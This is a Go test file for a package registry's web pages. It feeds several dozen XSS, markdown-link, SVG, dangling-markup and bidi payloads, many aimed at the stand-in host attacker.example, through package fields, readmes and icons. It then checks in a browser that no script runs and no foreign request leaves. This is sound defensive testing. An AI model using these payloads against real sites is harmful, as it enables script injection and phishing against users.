package web_test

import (
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"net/http/httptest"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/xpkg-dev/xpkg/internal/registry/web/folder"
	"github.com/xpkg-dev/xpkg/internal/registry/web/webtest"
	"github.com/xpkg-dev/xpkg/internal/testing/browser"
	"github.com/xpkg-dev/xpkg/pkg/catalog"
)

// attackHost is the host that attacks try to reach.
const attackHost = "attacker.example"

// textAttacks are texts that an author can place into every field that a page shows.
var textAttacks = map[string]string{
	"script element": `<script>alert(1)</script>`,
	"closing tags":   `</title></textarea></style></script><script>alert(1)</script>`,
	"image handler":  `<img src=x onerror=alert(1)>`, "foreign image": `<img src="https://attacker.example/pixel.png">`,
	"svg handler":   `<svg onload=alert(1)>`,
	"svg script":    `<svg><script href="https://attacker.example/x.js"/></svg>`,
	"attribute":     `" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="`,
	"single quotes": `' autofocus onfocus='alert(1)`, "frame": `<iframe src="https://attacker.example/"></iframe>`,
	"srcdoc": `<iframe srcdoc="<script>alert(1)</script>">`,
	"object": `<object data="https://attacker.example/x.swf"></object>`,
	"embed":  `<embed src="https://attacker.example/x">`, "base": `<base href="https://attacker.example/">`,
	"refresh":       `<meta http-equiv="refresh" content="0;url=https://attacker.example/">`,
	"link":          `<link rel="stylesheet" href="https://attacker.example/x.css">`,
	"style":         `<style>@import "https://attacker.example/x.css"; * { display: none }</style>`,
	"form":          `<form action="https://attacker.example/"><input name=q><button>x</button></form>`,
	"button action": `<button formaction="https://attacker.example/">x</button>`,
	"video":         `<video src="https://attacker.example/x.mp4" autoplay onerror=alert(1)></video>`,
	"details":       `<details open ontoggle=alert(1)>x</details>`, "marquee": `<marquee onstart=alert(1)>x</marquee>`,
	"mathml":    `<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	"template":  `{{.Status}}{{define "main"}}x{{end}}<template><script>alert(1)</script></template>`,
	"comment":   `<!--><img src=x onerror=alert(1)>-->`,
	"cdata":     `<![CDATA[<script>alert(1)</script>]]>`,
	"entities":  `&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;`,
	"utf-7":     `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
	"backticks": "`${alert(1)}`<img src=`x`onerror=alert(1)>", "null": "<scr\u200bipt>alert(1)</scr\u200bipt>",
	"bidi": "safe\u202etxt.exe\u202c \u2066hidden\u2069", "zero width": "pay\u200bpal\u2060",
	"combining": "Z" + strings.Repeat("\u0354", 60), "long word": strings.Repeat("A", 4000),
	"tag characters": "x\U000e0061\U000e0062", "dangling markup": `<img src='https://attacker.example/?`,
	"dom clobbering": `<a id=q><form id=main name=q><input name=attributes>`,
	"popover":        `<button popovertarget=x onbeforetoggle=alert(1)>x</button>`,
	"noscript":       `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	"xlink":          `<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>`,
	"portal":         `<portal src="https://attacker.example/"></portal>`,
	"prefetch":       `<link rel="dns-prefetch" href="//attacker.example"><link rel=preload as=script href="//attacker.example/x.js">`,
}

// markdownAttacks are readmes.
var markdownAttacks = map[string]string{
	"javascript link": `[click](javascript:alert(1))`, "mixed case": `[click](JaVaScRiPt:alert(1))`,
	"entity": `[click](&#106;avascript:alert(1))`, "tab": "[click](java&Tab;script:alert(1))",
	"data link": `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	"vbscript":  `[click](vbscript:alert(1))`, "autolink": `<javascript:alert(1)>`,
	"reference":     "[click][a]\n\n[a]: javascript:alert(1) \"x\"",
	"title":         `[click](https://example.org "x\" onmouseover=\"alert(1)")`,
	"foreign image": `![pixel](https://attacker.example/pixel.png)`,
	"image in link": `[![badge](https://attacker.example/badge.svg)](https://attacker.example/)`,
	"relative link": `[click](//attacker.example/)`, "image reference": "![a][b]\n\n[b]: https://attacker.example/b.png",
	"image with quotes": `![x" onerror="alert(1)](https://attacker.example/x.png)`,
	"image script":      `![x](javascript:alert(1))`, "code": "```html\n<script>alert(1)</script>\n```",
	"fence info": "```\"><script>alert(1)</script>\nx\n```",
	"table":      "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
	"nested":     strings.Repeat("> ", 5000) + "<script>alert(1)</script>", "heading id": "# \"><script>alert(1)</script>",
	"html block":         "<div>\n\n<script>alert(1)</script>\n\n</div>",
	"clobbering heading": "# main\n\n# q\n\n[x](#main)", "credentials": `[click](https://user:password@attacker.example/)`,
	"bidi entity": "&#x202e;txt.exe", "file": "[click](file:///etc/passwd)",
	"blob": "[click](blob:https://attacker.example/x)",
}

// svgAttacks are icons.
var svgAttacks = map[string]string{
	"script": `<script>alert(1)</script>`, "handler": `<rect width="9" height="9" onload="alert(1)"/>`,
	"foreign image":  `<image href="https://attacker.example/x.png" width="9" height="9"/>`,
	"foreign object": `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script><img src="https://attacker.example/x"/></body></foreignObject>`,
	"use":            `<use href="https://attacker.example/x.svg#a"/>`,
	"style":          `<style>@import url(https://attacker.example/x.css); @font-face { font-family: x; src: url(https://attacker.example/f) } * { fill: url(https://attacker.example/f#a) }</style><text y="9">x</text>`,
	"animation":      `<a><animate attributeName="href" values="javascript:alert(1)"/><text y="9">x</text></a>`,
	"set":            `<set attributeName="onload" to="alert(1)"/>`,
	"stylesheet":     `<?xml-stylesheet href="https://attacker.example/x.css"?>`,
}

// hostileVersions returns a package for each attack: with the attack in each text, in its readme, or as its icon.
func hostileVersions(t testing.TB) map[string]folder.Version {
	t.Helper()
	out := map[string]folder.Version{}
	add := func(kind string, i int, name string, attack func(*folder.Version), text string) {
		repository := fmt.Sprintf("%s/%s-%d", kind, "attack", i)
		v := webtest.Version(
			t, repository, "v1.0.0", time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC),
			hostileStream(t, fmt.Sprintf("%s%d", kind, i), text),
		)
		attack(&v)
		out[kind+": "+name] = v
	}
	for i, name := range slices.Sorted(maps.Keys(textAttacks)) {
		add("text", i, name, func(v *folder.Version) {
			message := statusText(textAttacks[name])
			v.Status = &catalog.Status{State: catalog.Deprecated, Message: message, ReplacedBy: message}
			v.Signatures, v.Readme, v.ReleaseNotes = []string{textAttacks[name]}, textAttacks[name], textAttacks[name]
		}, textAttacks[name])
	}
	for i, name := range slices.Sorted(maps.Keys(markdownAttacks)) {
		add(
			"markdown", i, name,
			func(v *folder.Version) { v.Readme, v.ReleaseNotes = markdownAttacks[name], markdownAttacks[name] }, "text",
		)
	}
	for i, name := range slices.Sorted(maps.Keys(svgAttacks)) {
		add("svg", i, name, func(v *folder.Version) {
			v.Icon = []byte(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">` +
				svgAttacks[name] + `</svg>`)
		}, "text")
	}
	return out
}

// statusText returns the part of a text that the message of a status can have: one line of at most 300 bytes. A status
// with more is not valid, and an index does not contain it.
func statusText(text string) string {
	line := strings.Map(func(r rune) rune {
		if r == utf8.RuneError || !unicode.IsPrint(r) && !unicode.IsSpace(r) {
			return -1
		}
		return r
	}, text)
	line = strings.Join(strings.Fields(line), " ")
	return strings.TrimSpace(strings.ToValidUTF8(line[:min(len(line), 300)], ""))
}

// hostileStream returns a package.yaml with a text in all fields that are free text.
func hostileStream(t testing.TB, name, text string) string {
	t.Helper()
	key := text[:min(len(text), 200)] // YAML limits the length of keys
	annotations := map[string]string{}
	for _, key := range []string{"friendly-name.meta.crossplane.io", "meta.crossplane.io/maintainer", "meta.crossplane.io/source", "meta.crossplane.io/license", "meta.crossplane.io/description",
		"meta.xpkg.dev/category", "meta.xpkg.dev/keywords", "meta.xpkg.dev/website", "meta.xpkg.dev/summary"} {
		annotations[key] = text
	}
	if strings.HasPrefix(text, "<") {
		annotations["meta.crossplane.io/source"], annotations["meta.xpkg.dev/website"] = "javascript:alert(1)",
			"javascript:alert(1)//https://attacker.example"
	}
	crdAnnotations := map[string]string{}
	for _, key := range []string{
		"package-title", "group-title", "group-overview", "group-readme", "resource-category", "resource-title",
		"resource-overview", "resource-overview-short", "resource-readme",
	} {
		crdAnnotations["packages.crossplane.io/"+key] = text
	}
	form, err := json.Marshal(map[string]any{
		"configSections": []any{map[string]any{"title": text, "description": text, "items": []any{
			map[string]any{"name": "a", "title": text, "description": text, "default": text, "path": text, "validation": []any{
				map[string]any{key: text},
			}},
			map[string]any{"name": "b", "title": text, "enum": []any{text, "x"}, "default": []any{text}},
		}}}})
	if err != nil {
		t.Fatal(err)
	}
	crdAnnotations["packages.crossplane.io/ui-schema"] = string(form)
	field := map[string]any{
		"type": "string", "description": text, "default": text, "enum": []any{text, "x"}, "pattern": ".*", "format": text,
		"x-kubernetes-validations": []any{map[string]any{"rule": "self == self", "message": text}},
	}
	properties := map[string]any{"plain": field, key: map[string]any{
		"type": "object", "description": text, "properties": map[string]any{key: field},
	}}
	group := name + ".example.org"
	documents := []any{
		map[string]any{"apiVersion": "meta.pkg.crossplane.io/v1", "kind": "Provider", "metadata": map[string]any{
			"name": name, "annotations": annotations,
		}, "spec": map[string]any{
			"controller": map[string]any{"permissionRequests": []any{map[string]any{
				"apiGroups": []any{text}, "resources": []any{text}, "verbs": []any{text},
			}}},
		}},
		map[string]any{
			"apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition", "metadata": map[string]any{
				"name": "things." + group, "annotations": crdAnnotations,
			}, "spec": map[string]any{
				"group": group, "scope": "Namespaced",
				"names": map[string]any{"kind": "Thing", "plural": "things", "singular": "thing", "listKind": "ThingList"},
				"versions": []any{map[string]any{
					"name": "v1", "served": true, "storage": true, "deprecated": true, "deprecationWarning": text,
					"additionalPrinterColumns": []any{map[string]any{"name": text, "type": "string", "jsonPath": ".a"}},
					"schema": map[string]any{"openAPIV3Schema": map[string]any{
						"type": "object", "description": text,
						"properties": map[string]any{"spec": map[string]any{
							"type": "object", "description": text, "properties": properties,
						}},
					}},
				}},
			}},
	}
	var out strings.Builder
	for _, d := range documents {
		raw, err := json.Marshal(d)
		if err != nil {
			t.Fatal(err)
		}
		out.WriteString("---\n" + string(raw) + "\n")
	}
	return out.String()
}

// TestHostilePackagesAreHarmless opens the pages of hostile packages in Chromium: no script runs, nothing is requested
// from another host, no dialog opens and nothing is blocked, because nothing is left to block.
func TestHostilePackagesAreHarmless(t *testing.T) {
	versions := hostileVersions(t)
	if len(versions) < 60 {
		t.Fatalf("%d attacks, want at least 60", len(versions))
	}
	h := newHandler(t, slices.Collect(maps.Values(versions)), webtest.Options())
	for name, v := range versions {
		checkHostile(t, h, name, v)
	}
	if testing.Short() {
		t.Skip("the browser needs more than a few seconds")
	}
	server := httptest.NewServer(h)
	defer server.Close()
	tab := browser.New(t).Tab(browser.View{Width: 1000, Height: 800})
	for _, name := range slices.Sorted(maps.Keys(versions)) {
		for _, path := range hostilePaths(versions[name]) {
			tab.Open(server.URL + path)
			if found := tab.Scripts("/page.js"); len(found) > 0 {
				t.Errorf("%s: %s ran scripts: %q", name, path, found)
			}
			if found := tab.Foreign(server.URL); len(found) > 0 {
				t.Errorf("%s: %s requested %q", name, path, found)
			}
			if found := append(tab.Violations(), tab.Dialogs()...); len(found) > 0 {
				t.Errorf("%s: %s has reports or dialogs: %q", name, path, found)
			}
		}
	}
	t.Attr("attacks", strconv.Itoa(len(versions)))
	t.Logf("%d attacks on %d pages each", len(versions), len(hostilePaths(folder.Version{})))
}

// hostilePaths returns the pages of a hostile package.
func hostilePaths(v folder.Version) []string {
	group := strings.NewReplacer("/attack-", "", webtest.Registry+"/", "").Replace(v.Repository) + ".example.org"
	p := "/p/" + v.Repository + "@v1.0.0"
	return []string{p, p + "/trust", p + "/versions", "/k/" + group + "/Thing", "/search?q=" + group}
}

// checkHostile checks the structure of the pages of a hostile package without a browser.
func checkHostile(t *testing.T, h http.Handler, name string, v folder.Version) {
	t.Helper()
	for _, path := range hostilePaths(v) {
		d := open(t, h, path)
		d.checkStructure()
		for _, n := range d.elements("img", "script", "link", "iframe", "object", "embed", "video", "image", "use") {
			for _, key := range []string{"src", "href", "data"} {
				if a := attribute(n, key); strings.Contains(a, attackHost) {
					t.Errorf("%s: %s loads %s", name, path, a)
				}
			}
		}
		for _, r := range d.text {
			if r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069 || r == 0x200b || r == 0xfeff {
				t.Errorf("%s: %s contains the invisible character %U", name, path, r)
				break
			}
		}
	}
	if len(v.Icon) == 0 {
		return
	}
	icon := get(t, h, "/p/"+v.Repository+"@v1.0.0/icon", http.StatusOK)
	if icon.Header().Get("Content-Security-Policy") != "sandbox; default-src 'none'" ||
		icon.Header().Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("%s: the icon has the policy %q", name, icon.Header().Get("Content-Security-Policy"))
	}
}
